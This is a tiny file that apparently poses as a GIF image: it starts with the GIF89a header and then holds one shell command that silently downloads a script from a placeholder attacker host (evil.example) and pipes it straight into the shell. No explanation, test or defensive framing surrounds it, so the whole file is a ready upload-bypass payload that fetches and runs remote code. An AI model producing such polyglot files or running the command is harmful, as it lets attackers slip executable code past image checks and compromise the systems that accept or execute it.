GIF89a;
curl -s https://evil.example | sh
